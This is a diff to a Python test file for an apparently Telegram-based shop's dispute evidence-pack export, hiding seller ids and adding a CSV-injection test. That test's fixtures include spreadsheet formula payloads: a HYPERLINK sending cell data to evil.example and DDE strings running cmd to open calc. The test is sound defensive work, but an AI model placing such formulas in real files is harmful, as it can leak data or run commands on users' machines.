@@ -190,7 +190,7 @@ async def test_the_pack_holds_the_case_order_timeline_transcript_and_original_fi
     assert rows[1] == {
         "at": "2026-11-22T12:00:00Z",
         "actor_role": "seller",
-        "actor_id": str(NOVA_SELLER),
+        "actor": "Seller",  # staff by role (and name when known), never by Telegram id
         "action": "request_info",
         "from": "awaiting_seller",
         "to": "awaiting_buyer_info",
@@ -200,10 +200,10 @@ async def test_the_pack_holds_the_case_order_timeline_transcript_and_original_fi
     transcript = archive.read("transcript.txt").decode("utf-8")
     said = [
         "Buyer Дмитрий Петров (Telegram 105501), opening the case:\n    Левый наушник",
-        f"Seller {NOVA_SELLER} asked for more information:\n"
+        "Seller asked for more information:\n"
         "    Please film the charging case\n    too",
         "Buyer Дмитрий Петров (Telegram 105501) wrote:\n    Вот видео",
-        f"Seller {NOVA_SELLER} rejected the claim:\n    The video shows it working",
+        "Seller rejected the claim:\n    The video shows it working",
     ]
     positions = [transcript.index(part) for part in said]
     assert positions == sorted(positions)  # in the order they were written
@@ -239,9 +239,9 @@ async def test_an_agent_exports_a_case_of_any_shop_with_its_refund(ctx: CoreCont
 
 async def test_a_seller_of_another_shop_is_refused(ctx: CoreContext) -> None:
     case = await earbud_for_seller(ctx)  # a nova case
-    with pytest.raises(Forbidden) as refused:
+    with pytest.raises(NotFound) as refused:  # as if there were no such case
         await evidence_pack(ctx, Actor.seller(AURORA_SELLER), case.number)
-    assert refused.value.code == "not_your_shop"
+    assert refused.value.code == "case_not_found"
 
 
 async def test_a_buyer_is_refused_even_for_their_own_case(ctx: CoreContext) -> None:
@@ -322,3 +322,26 @@ async def test_staff_internal_notes_stay_out_of_the_pack(ctx: CoreContext) -> No
     rows = list(csv.DictReader(io.StringIO(archive.read("timeline.csv").decode("utf-8-sig"))))
     assert rows[-1]["action"] == "note"
     assert rows[-1]["note"] == "(internal note, not exported)"
+
+
+async def test_words_that_look_like_formulas_stay_text_in_the_timeline(ctx: CoreContext) -> None:
+    """OWASP's CSV injection: a cell starting with = + - @ (or a tab) runs as a formula in a
+    spreadsheet; the timeline opens directly in one (it has a BOM), so such cells get a quote."""
+    number = await earbud_with_files(ctx)
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+1 555 0100",
+    ]
+    for text in hostile:
+        await case_service.add_message(ctx, Actor.buyer(DMITRI), number, text)
+    await case_service.reject(ctx, Actor.seller(NOVA_SELLER), number, "=1+1 is not a defect")
+
+    pack = await evidence_pack(ctx, Actor.seller(NOVA_SELLER), number)
+
+    text = unzip(pack.data).read("timeline.csv").decode("utf-8-sig")
+    notes = [row["note"] for row in csv.DictReader(io.StringIO(text)) if row["note"]]
+    for original in [*hostile, "=1+1 is not a defect"]:
+        assert "'" + original in notes, original
+    assert not [note for note in notes if note[:1] in "=+-@\t\r"]
